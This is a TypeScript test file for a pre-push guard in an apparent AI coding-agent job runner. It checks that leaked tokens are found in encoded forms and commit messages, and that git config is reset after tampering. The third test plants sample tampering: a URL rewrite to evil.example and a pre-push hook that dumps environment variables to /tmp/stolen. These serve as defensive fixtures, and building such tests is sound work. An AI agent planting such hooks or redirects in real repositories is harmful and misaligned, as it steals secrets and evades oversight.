import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { RUNNER_UID } from '../image/runner-image.ts';
import { JobSecrets } from '../runner/job-secrets.ts';
import { resetGitConfig, scanJobBranch } from './push.ts';

// Host git runs as the runner user when the tests run as root (git-command.ts): so does this test's git.
const asRunner = process.getuid?.() === 0 ? { uid: RUNNER_UID, gid: RUNNER_UID } : {};
const root = fs.mkdtempSync(path.join(os.tmpdir(), 'spedy-push-'));
fs.chmodSync(root, 0o755);
if (process.getuid?.() === 0) fs.chownSync(root, RUNNER_UID, RUNNER_UID);
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

function git(dir: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'init.defaultBranch=main', ...args], { cwd: dir, encoding: 'utf8', ...asRunner }).trim();
}

function write(file: string, text: string, mode?: number): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text, { mode });
  if (process.getuid?.() === 0) fs.chownSync(file, RUNNER_UID, RUNNER_UID);
}

describe('the pre-push scan', () => {
  const token = 'svc_0123456789abcdefghij';
  const secrets = new JobSecrets({ values: [{ name: 'SERVICE_TOKEN', value: token }, { name: 'the GitHub token', value: 'ghs_not-on-the-branch-01' }] });
  const dir = path.join(root, 'repo');
  const checkout = () => ({
    repository: { provider: 'github' as const, fullName: 'acme/app', name: 'app', cloneUrl: 'http://127.0.0.1:9/acme/app.git', baseBranch: 'main' },
    dir,
    branch: 'spedy/x',
    baseSha: git(dir, 'rev-list', '--max-parents=0', 'HEAD'),
  });

  it('finds a secret in what the branch adds and in its commit messages, by name and place, in any form', async () => {
    git(root, 'init', '--quiet', dir);
    write(path.join(dir, 'README.md'), '# app\n');
    git(dir, 'add', '-A');
    git(dir, 'commit', '--quiet', '-m', 'base');
    git(dir, 'switch', '--quiet', '-c', 'spedy/x');
    write(path.join(dir, 'clean.txt'), 'nothing here\n');
    write(path.join(dir, 'dump.b64'), `${Buffer.from(`TOKEN=${token}\n`).toString('base64').replace(/(.{10})/g, '$1\n')}\n`);
    git(dir, 'add', '-A');
    git(dir, 'commit', '--quiet', '-m', `Work with ${encodeURIComponent(`?t=${token}`)}`);

    const findings = await scanJobBranch(checkout(), { home: root, find: (text) => secrets.find(text) });

    expect(findings).toEqual([
      { name: 'SERVICE_TOKEN', where: 'dump.b64', kind: 'base64' },
      { name: 'SERVICE_TOKEN', where: expect.stringMatching(/^the message of commit [0-9a-f]{12}$/), kind: 'plain' },
    ]);
  });

  it('finds nothing on a clean branch', async () => {
    git(dir, 'reset', '--quiet', '--hard', checkout().baseSha);
    write(path.join(dir, 'clean.txt'), 'nothing here\n');
    git(dir, 'add', '-A');
    git(dir, 'commit', '--quiet', '-m', 'clean work');
    expect(await scanJobBranch(checkout(), { home: root, find: (text) => secrets.find(text) })).toEqual([]);
  });

  it('writes the clone’s config anew, dropping what an agent added (a rewritten URL, hooks)', async () => {
    git(dir, 'config', 'url.http://evil.example/.insteadOf', 'http://127.0.0.1:9/');
    write(path.join(dir, '.git', 'hooks', 'pre-push'), '#!/bin/sh\nenv > /tmp/stolen\n', 0o755);
    await resetGitConfig(checkout());
    const config = fs.readFileSync(path.join(dir, '.git', 'config'), 'utf8');
    expect(config).not.toContain('evil.example');
    expect(config).toContain('url = http://127.0.0.1:9/acme/app.git');
    expect(fs.existsSync(path.join(dir, '.git', 'hooks'))).toBe(false);
    expect(git(dir, 'status', '--short')).toBe('');
  });
});
